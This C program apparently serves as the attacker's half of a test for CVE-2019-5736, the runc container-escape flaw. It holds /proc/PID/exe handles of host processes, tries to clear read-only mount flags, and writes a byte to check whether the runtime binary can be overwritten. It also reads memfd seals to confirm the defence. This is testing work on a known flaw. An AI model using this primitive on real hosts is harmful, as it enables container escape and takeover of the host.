/*
 * exe - the attacker's half of CVE-2019-5736, and a way to see the defence.
 *
 *	exe seals PATH		prints the seals of the file, as a number; 0 if it can have none
 *	exe hold PID SECONDS	as a process of a container: keeps /proc/PID/exe (of whatever PID is
 *				then) and tries to write to it for so long; prints "opened N",
 *				"WRITABLE" if it ever was, and "held"
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/mount.h>

enum { MAX_HELD = 64 };

struct held {
	int fd;
	dev_t dev;
	ino_t ino;
};

static int seals(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC), n;

	if (fd < 0)
		return perror(path), 1;
	n = fcntl(fd, F_GET_SEALS);
	printf("%d\n", n < 0 ? 0 : n);
	return 0;
}

/* Keeps the executable of each process that is not the container's own. */
static int look(struct held *held, int n, int pid, const struct stat *own)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return n;
	if (fstat(fd, &st) < 0 || n == MAX_HELD ||
	    (st.st_dev == own->st_dev && st.st_ino == own->st_ino)) {
		close(fd);
		return n;
	}
	for (int i = 0; i < n; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return n;
		}
	held[n] = (struct held){fd, st.st_dev, st.st_ino};
	return n + 1;
}

static bool writable(int fd)
{
	struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY};
	char path[64];
	int w;

	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &clear, sizeof clear);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w < 0)
		return false;
	/* An open memory file is not yet a written one. */
	if (pwrite(w, "#", 1, 0) == 1) {
		close(w);
		return true;
	}
	close(w);
	return false;
}

int main(int argc, char **argv)
{
	struct held held[MAX_HELD];
	struct timespec start, now;
	struct stat own = {0};
	int n = 0;

	if (argc == 3 && !strcmp(argv[1], "seals"))
		return seals(argv[2]);
	if (argc != 4 || strcmp(argv[1], "hold"))
		return fprintf(stderr, "usage: exe seals PATH | exe hold PID SECONDS\n"), 2;
	stat("/proc/self/exe", &own);
	clock_gettime(CLOCK_MONOTONIC, &start);
	printf("looking\n");
	fflush(stdout);
	do {
		int pid = atoi(argv[2]), before = n;

		/* PID 0: whatever comes. */
		for (int p = pid ? pid : 2; p <= (pid ? pid : 64); p++)
			n = look(held, n, p, &own);
		if (n != before)
			printf("opened %d\n", n), fflush(stdout);
		for (int i = 0; i < n; i++)
			if (writable(held[i].fd))
				return printf("WRITABLE\n"), fflush(stdout), 0;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - start.tv_sec < atoi(argv[3]));
	printf("held %d\n", n);
	return 0;
}
